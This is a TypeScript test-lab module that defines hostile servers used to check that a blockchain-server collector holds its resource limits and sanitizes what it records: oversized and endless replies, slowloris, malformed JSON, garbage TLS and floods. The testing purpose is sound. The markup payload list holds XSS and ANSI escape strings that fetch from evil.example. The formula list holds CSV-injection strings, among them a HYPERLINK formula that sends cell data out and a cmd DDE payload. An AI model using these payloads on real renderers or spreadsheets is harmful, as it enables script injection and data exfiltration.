/**
 * The hostile lab personalities: servers that attack the collector rather than its users. Each
 * entry says what the host does on the wire, which transport it listens on, and the outcome the
 * bounded collector must record for it (`expect`), so tests read their assertions from the same
 * table the lab plants from.
 *
 * Every handler takes over a raw accepted socket (lab.ts `takeover`). Large or endless output is
 * produced lazily, chunk by chunk, waiting for `drain`: the lab never holds a 100 MB reply.
 *
 * @module
 */
import type net from "node:net";
import tls from "node:tls";
import { type HostileAnswer, type ResponderOptions, serveResponder } from "./responder.ts";
import { xorshift32 } from "../rng.ts";

/** What a hostility handler may use from the lab. */
export interface HostileEnv {
  /** The TLS context of the host (its certificate), when it has one. */
  secureContext: () => tls.SecureContext | null;
  /** The lab chain's tip, for honest `blockchain.headers.subscribe` answers. */
  tip: () => { height: number; hex: string };
  /** Peer entries the host advertises (`server.peers.subscribe`). */
  peers: () => unknown[];
}

/** The outcome the collector must record for a hostile host. */
export interface HostileExpectation {
  /** `status` of the server's row in servers.csv. */
  status: string;
  /** A probe whose record must have `probeStatus` (when the row is `success`). */
  probe?: string;
  probeStatus?: string;
}

/** One hostile personality. */
export interface Hostility {
  id: string;
  /** What it does, for methodology.md and the ground truth. */
  summary: string;
  /** Which listener it has. */
  transport: "tcp" | "tls";
  expect: HostileExpectation;
  /** Serve one accepted connection. */
  serve: (socket: net.Socket, env: HostileEnv) => void;
}

const enc = new TextEncoder();

/** Markup and terminal payloads: each tries to run script or fetch something if rendered raw. */
export const MARKUP_PAYLOADS = [
  `<script>window.__pwned=1;fetch("http://evil.example/s")</script>`,
  `<img src=x onerror="window.__pwned=2;fetch('http://evil.example/i')">`,
  `"><svg onload=window.__pwned=3>`,
  `[click me](javascript:window.__pwned=4) ![x](http://evil.example/md.png)`,
  `<iframe src="http://evil.example/f"></iframe><link rel=stylesheet href=//evil.example/c.css>`,
  "\x1b[2J\x1b[31mRED\x1b]0;title\x07\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
] as const;

/** Spreadsheet formula payloads (OWASP CSV injection). */
export const FORMULA_PAYLOADS = [
  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  `+SUM(1,2)`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(A1:A9)`,
  "\t=1+1",
] as const;

/** Write `total` bytes (or forever when null) made by `chunk`, waiting for drain; stop on close. */
export function streamLazily(
  socket: net.Socket,
  prefix: string,
  chunk: Uint8Array,
  total: number | null,
  suffix = "",
): void {
  let sent = 0;
  let closed = false;
  socket.once("close", () => (closed = true));
  socket.write(enc.encode(prefix));
  const pump = () => {
    while (!closed && !socket.destroyed && (total === null || sent < total)) {
      const piece = total === null || total - sent >= chunk.length
        ? chunk
        : chunk.subarray(0, total - sent);
      sent += piece.length;
      if (!socket.write(piece)) return void socket.once("drain", pump);
    }
    if (!closed && !socket.destroyed && total !== null) socket.write(enc.encode(suffix));
  };
  pump();
}

function secure(socket: net.Socket, env: HostileEnv, then: (s: net.Socket) => void) {
  const context = env.secureContext();
  if (!context) return void socket.destroy();
  // Wrapping inside the accept callback fails under Deno ("unsupported protocol"): wait a tick.
  const t = setTimeout(() => {
    if (socket.destroyed) return;
    const s = new tls.TLSSocket(socket, { isServer: true, secureContext: context });
    s.on("error", () => s.destroy());
    socket.once("close", () => s.destroy());
    s.once("secure", () => then(s));
  }, 0);
  socket.once("close", () => clearTimeout(t));
}

/** Answer the first request (and only it) with `answer`; honest otherwise. */
function firstIs(
  answer: (id: unknown) => HostileAnswer,
  more: ResponderOptions = {},
): ResponderOptions {
  return { ...more, override: (req, n) => (n === 0 ? answer(req.id) : more.override?.(req, n)) };
}

const A64K = enc.encode("A".repeat(65_536));

/** Deterministic junk (xorshift32), so a hostile run is reproducible byte for byte. */
function seededBytes(n: number, seed: number): Uint8Array {
  const out = new Uint8Array(n);
  const next = xorshift32(seed);
  for (let i = 0; i < n; i++) out[i] = next() & 255;
  return out;
}

/** The catalogue, in planting order. */
export const HOSTILITIES: readonly Hostility[] = [
  {
    id: "endless-line",
    summary: "Answers server.version with a line that never ends: 'A' forever, no newline.",
    transport: "tcp",
    expect: { status: "oversize" },
    serve: (socket) =>
      serveResponder(
        socket,
        firstIs(() => {
          streamLazily(socket, '{"jsonrpc":"2.0","id":0,"result":["', A64K, null);
          return { none: true };
        }),
      ),
  },
  {
    id: "huge-reply",
    summary: "Answers server.version with one 100 MB line (streamed lazily, never held in memory).",
    transport: "tcp",
    expect: { status: "oversize" },
    serve: (socket) =>
      serveResponder(
        socket,
        firstIs((id) => {
          streamLazily(
            socket,
            `{"jsonrpc":"2.0","id":${JSON.stringify(id)},"result":["`,
            A64K,
            100_000_000,
            '","1.4"]}\n',
          );
          return { none: true };
        }),
      ),
  },
  {
    id: "slowloris",
    summary: "Sends a valid server.version reply one byte per second.",
    transport: "tcp",
    expect: { status: "timeout" },
    serve: (socket) =>
      serveResponder(
        socket,
        firstIs((id) => {
          const bytes = enc.encode(
            JSON.stringify({ jsonrpc: "2.0", result: ["ElectrumX 1.16.0", "1.4"], id }) + "\n",
          );
          let i = 0;
          const t = setInterval(() => {
            if (socket.destroyed || i >= bytes.length) return clearInterval(t);
            socket.write(bytes.subarray(i, ++i));
          }, 1000);
          socket.once("close", () => clearInterval(t));
          return { none: true };
        }, { override: () => ({ none: true }) }),
      ),
  },
  {
    id: "invalid-utf8",
    summary:
      "Software string, banner and donation address carry invalid UTF-8 (overlong forms, lone surrogates, 0xFF).",
    transport: "tcp",
    expect: { status: "success", probe: "version", probeStatus: "success" },
    serve: (socket) =>
      serveResponder(socket, {
        override: (req) => {
          if (req.method !== "server.version" && req.method !== "server.banner") return undefined;
          const head = enc.encode(`{"jsonrpc":"2.0","id":${JSON.stringify(req.id)},"result":`);
          const bad = new Uint8Array([0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xff, 0xfe, 0x80]);
          const body = req.method === "server.version"
            ? [enc.encode('["ElectrumX '), bad, enc.encode('","1.4"]}\n')]
            : [enc.encode('"banner '), bad, enc.encode('"}\n')];
          const parts = [head, ...body];
          const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
          let o = 0;
          for (const p of parts) out.set(p, (o += p.length) - p.length);
          return { raw: out };
        },
      }),
  },
  {
    id: "deep-json",
    summary: "Answers server.version with JSON arrays nested 100,000 deep.",
    transport: "tcp",
    expect: { status: "protocol-error" },
    serve: (socket) =>
      serveResponder(socket, {
        override: () => ({ raw: "[".repeat(100_000) + "]".repeat(100_000) + "\n" }),
      }),
  },
  {
    id: "huge-values",
    summary:
      "A 1 MB software string, a 400-digit tip height, a 1 MB header hex, a 100 KB banner and a reply id of 1e400.",
    transport: "tcp",
    expect: { status: "success", probe: "tip", probeStatus: "protocol-error" },
    serve: (socket, env) =>
      serveResponder(socket, {
        software: "ElectrumX " + "9".repeat(1_000_000),
        banner: "B".repeat(100_000),
        override: (req) => {
          if (req.method === "blockchain.headers.subscribe") {
            return {
              raw: `{"jsonrpc":"2.0","id":${JSON.stringify(req.id)},"result":{"height":1${
                "0".repeat(400)
              },"hex":"${"ab".repeat(500_000)}"}}\n`,
            };
          }
          if (req.method === "server.ping") {
            return {
              raw: `{"jsonrpc":"2.0","id":1${
                "0".repeat(400)
              },"result":null}\n{"jsonrpc":"2.0","id":${JSON.stringify(req.id)},"result":null}\n`,
            };
          }
          return undefined;
        },
        tip: env.tip,
      }),
  },
  {
    id: "duplicate-ids",
    summary:
      'Answers every request twice, and sends replies nobody asked for (ids 999999, -1, "x", null, an object).',
    transport: "tcp",
    expect: { status: "success", probe: "version", probeStatus: "success" },
    serve: (socket, env) =>
      serveResponder(socket, {
        tip: env.tip,
        override: (req) => {
          const honest = JSON.stringify({
            jsonrpc: "2.0",
            result: req.method === "server.version"
              ? ["ElectrumX 1.16.0", "1.4"]
              : req.method === "blockchain.headers.subscribe"
              ? env.tip()
              : req.method === "server.peers.subscribe"
              ? []
              : req.method === "server.features"
              ? { hosts: {} }
              : req.method === "server.banner"
              ? "duplicate"
              : null,
            id: req.id,
          });
          const wrong = [999999, -1, "x", null, { a: 1 }].map((id) =>
            JSON.stringify({ jsonrpc: "2.0", result: "unsolicited", id })
          ).join("\n");
          return { raw: `${wrong}\n${honest}\n${honest}\n` };
        },
      }),
  },
  {
    id: "notification-flood",
    summary:
      "Floods blockchain.headers.subscribe notifications (32 KiB each, so the byte bound, not the parse rate, is what stops it) from the first byte, without end.",
    transport: "tcp",
    expect: { status: "oversize" },
    serve: (socket) => {
      const note = enc.encode(
        JSON.stringify({
          jsonrpc: "2.0",
          method: "blockchain.headers.subscribe",
          params: [{ height: 1, hex: "00".repeat(16_384) }],
        }) + "\n",
      );
      const chunk = new Uint8Array(note.length * 4);
      for (let i = 0; i < 4; i++) chunk.set(note, i * note.length);
      socket.on("data", () => {});
      streamLazily(socket, "", chunk, null);
    },
  },
  {
    id: "silent",
    summary: "Accepts the connection, reads everything, never says a word.",
    transport: "tcp",
    expect: { status: "timeout" },
    serve: (socket) => void socket.on("data", () => {}),
  },
  {
    id: "reset-mid-reply",
    summary: "Sends half of the server.version reply, then resets the connection (TCP RST).",
    transport: "tcp",
    expect: { status: "reset" },
    serve: (socket) =>
      serveResponder(
        socket,
        firstIs(() => {
          socket.write(
            enc.encode('{"jsonrpc":"2.0","id":0,"result":["ElectrumX 1.'),
            () => setTimeout(() => socket.resetAndDestroy(), 20),
          );
          return { none: true };
        }),
      ),
  },
  {
    id: "garbage-tls",
    summary:
      "On its TLS port answers the ClientHello with an HTTP error and random bytes instead of a ServerHello.",
    transport: "tls",
    expect: { status: "tls-error" },
    serve: (socket) =>
      void socket.once("data", () => {
        const junk = seededBytes(4096, 0x7e57);
        socket.write(enc.encode("HTTP/1.1 400 Bad Request\r\n\r\n"));
        socket.end(junk);
      }),
  },
  {
    id: "absurd-certificate",
    summary:
      "TLS with a certificate of 10,000 SANs (3-character names, so it stays under TLS's 64 KiB handshake message that Deno's TLS enforces), valid until 9999-12-31, markup and formulas in its subject; honest after the handshake. A zero-length key is not feasible: no TLS stack loads a certificate whose key is empty.",
    transport: "tls",
    expect: { status: "success", probe: "reach", probeStatus: "success" },
    serve: (socket, env) => secure(socket, env, (s) => serveResponder(s, { tip: env.tip })),
  },
  {
    id: "peer-flood",
    summary: "server.peers.subscribe answers 100,000 entries (about 3 MB on one line).",
    transport: "tcp",
    expect: { status: "success", probe: "peers", probeStatus: "oversize" },
    serve: (socket, env) =>
      serveResponder(socket, {
        tip: env.tip,
        override: (req) => {
          if (req.method !== "server.peers.subscribe") return undefined;
          const entries: string[] = [];
          for (let i = 0; i < 100_000; i++) {
            entries.push(`["5.5.${(i >> 8) & 255}.${i & 255}","",["v1.4","t50001"]]`);
          }
          return {
            raw: `{"jsonrpc":"2.0","id":${JSON.stringify(req.id)},"result":[${
              entries.join(",")
            }]}\n`,
          };
        },
      }),
  },
  {
    id: "private-peers",
    summary:
      "Advertises peers at private, loopback, link-local, CGNAT, multicast and unspecified addresses, names that resolve to them, and a 10,000-character name.",
    transport: "tcp",
    expect: { status: "success", probe: "peers", probeStatus: "success" },
    serve: (socket, env) => serveResponder(socket, { tip: env.tip, peers: env.peers }),
  },
  {
    id: "markup-text",
    summary:
      "Software string, banner, donation address and error messages carry <script>, <img onerror>, Markdown links and ANSI escapes.",
    transport: "tcp",
    expect: { status: "success", probe: "banner", probeStatus: "success" },
    serve: (socket, env) =>
      serveResponder(socket, {
        software: `ElectrumX 1.16.0 ${MARKUP_PAYLOADS[0]}`,
        protocol: "1.4",
        banner: MARKUP_PAYLOADS.join("\n"),
        donation: MARKUP_PAYLOADS[1],
        unknownMethodMessage: () => MARKUP_PAYLOADS[2],
        tip: env.tip,
      }),
  },
  {
    id: "formula-text",
    summary:
      "Software string, banner and donation address start with =, +, - and @ (spreadsheet formulas).",
    transport: "tcp",
    expect: { status: "success", probe: "banner", probeStatus: "success" },
    serve: (socket, env) =>
      serveResponder(socket, {
        software: FORMULA_PAYLOADS[0],
        banner: FORMULA_PAYLOADS[1],
        donation: FORMULA_PAYLOADS[3],
        unknownMethodMessage: () => FORMULA_PAYLOADS[2],
        tip: env.tip,
      }),
  },
  {
    id: "long-hostname",
    summary:
      "Named with a 253-character host name (the DNS maximum), 63-character labels; honest otherwise.",
    transport: "tcp",
    expect: { status: "success", probe: "version", probeStatus: "success" },
    serve: (socket, env) => serveResponder(socket, { tip: env.tip }),
  },
  {
    id: "binary-garbage",
    summary: "Answers every request with random bytes and newlines (never JSON).",
    transport: "tcp",
    expect: { status: "protocol-error" },
    serve: (socket) =>
      serveResponder(socket, {
        override: () => {
          const b = seededBytes(512, 0x9a4b);
          for (let i = 63; i < b.length; i += 64) b[i] = 10;
          for (let i = 0; i < b.length; i++) {
            if (b[i] === 0x5b || b[i] === 0x7b || b[i] === 0x22) b[i] = 0x3f; // no JSON openers
          }
          b[b.length - 1] = 10;
          return { raw: b };
        },
      }),
  },
  {
    id: "immediate-close",
    summary: "Accepts, then closes the connection as soon as the first request arrives.",
    transport: "tcp",
    expect: { status: "closed" },
    serve: (socket) => void socket.once("data", () => socket.end()),
  },
];

/** A hostility by id. @throws {RangeError} For an unknown id. */
export function hostility(id: string): Hostility {
  const h = HOSTILITIES.find((x) => x.id === id);
  if (!h) {
    throw new RangeError(
      `Unknown hostility ${JSON.stringify(id)}; known: ${HOSTILITIES.map((x) => x.id).join(", ")}`,
    );
  }
  return h;
}
